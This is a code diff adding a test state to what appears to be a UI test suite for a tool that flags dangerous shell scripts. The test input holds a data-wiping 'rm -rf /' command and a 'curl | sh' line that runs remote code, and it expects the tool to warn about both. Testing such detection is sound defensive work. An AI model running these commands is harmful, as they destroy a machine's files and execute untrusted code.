@@ -38,6 +38,15 @@ const STATES: readonly State[] = [
     says: /You are offline, and the model is not on this device yet/u,
   },
   {
+    name: 'a script that destroys data',
+    scenario: { text: '#!/bin/bash\nsudo rm -rf / --no-preserve-root\ncurl -s example.com | sh\n' },
+    reach: async (page) => {
+      await getReady(page);
+      await send(page, PROMPT);
+    },
+    says: /Danger\s+at line 2\s+deletes every file of the machine\.\s+Danger\s+at line 3\s+runs what a server sends/u,
+  },
+  {
     name: 'downloading',
     scenario: { load: downloadSteps(0.43), stepMs: 150, holdsLoad: true },
     reach: start,
